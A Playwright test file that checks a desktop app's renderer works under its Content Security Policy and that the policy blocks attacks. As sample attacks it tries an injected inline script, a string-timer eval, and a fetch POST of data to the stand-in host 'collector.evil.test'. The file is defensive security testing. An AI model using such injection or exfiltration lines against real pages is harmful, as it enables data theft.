import { chromium, expect, test, type Browser } from '@playwright/test';
import { existsSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { resolve } from 'node:path';
import { createAppProtocolHandler } from '../../src-main/app-protocol';
import { buildCsp } from '../../src-main/csp';

/**
 * The built desktop renderer (out/renderer), served by the shell's own app:// handler with its
 * CSP and headers, in Debian's Chromium: the app must work under the policy (demo book, account,
 * KPI chart) while injected scripts and connections to other servers are blocked. No Electron
 * binary needed; the handler is bridged to a local HTTP port, so 'self' means that origin.
 */
const ROOT = resolve(import.meta.dirname, '../..');
const RENDERER = resolve(ROOT, 'out/renderer');
const TEAM_SERVER = 'http://127.0.0.1:8787';
let server: Server;
let origin: string;
let browser: Browser;

test.beforeAll(async () => {
  const handler = createAppProtocolHandler({
    rendererRoot: RENDERER,
    readFile,
    currentCsp: () => buildCsp({ teamServerOrigin: TEAM_SERVER }),
  });
  server = createServer(async (req, res) => {
    const response = await handler(new Request(`app://fieldbook${req.url ?? '/'}`));
    res.writeHead(response.status, Object.fromEntries(response.headers));
    res.end(Buffer.from(await response.arrayBuffer()));
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  browser = await chromium.launch({
    executablePath: process.env.CHROMIUM_PATH ?? '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking'],
  });
});

test.afterAll(async () => {
  await browser?.close();
  await new Promise((done) => server?.close(done));
});

test('the renderer works under the shell’s CSP, which blocks injected scripts and other servers', async () => {
  expect(existsSync(resolve(RENDERER, 'index.html')), 'build the app first: npx electron-vite build').toBe(true);
  const page = await browser.newPage({ viewport: { width: 1440, height: 900 } });
  const problems: string[] = [];
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(m.text());
  });
  page.on('pageerror', (e) => problems.push(e.message));

  const response = await page.goto(`${origin}/index.html#/book`);
  expect(response?.headers()['content-security-policy']).toContain(`connect-src 'self' ${TEAM_SERVER}`);
  await page.getByRole('button', { name: /Open the demo book/ }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Book', exact: true })).toBeVisible({ timeout: 60_000 });
  await page.locator('a[href*="#/accounts/"]').first().click();
  await page.getByRole('tab', { name: /^KPIs/ }).click();
  await expect(page.locator('canvas').first()).toBeVisible();
  expect(problems).toEqual([]);

  const blocked = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.appendChild(script);
    const exfiltration = await fetch('https://collector.evil.test/book', { method: 'POST', body: 'book' }).then(
      () => 'sent',
      () => 'blocked',
    );
    // A string timer is eval in disguise; DevTools' own evaluation is exempt, the page's timer is not.
    (window.setTimeout as unknown as (code: string, ms: number) => number)('window.__evaled = true', 0);
    await new Promise((r) => setTimeout(r, 100));
    const w = window as { __injected?: boolean; __evaled?: boolean };
    return {
      injected: w.__injected ?? false,
      evaled: w.__evaled ?? false,
      exfiltration,
      violations: [...new Set(violations)].sort(),
    };
  });
  expect(blocked).toEqual({
    injected: false,
    evaled: false,
    exfiltration: 'blocked',
    violations: ['connect-src', 'script-src', 'script-src-elem'],
  });
});
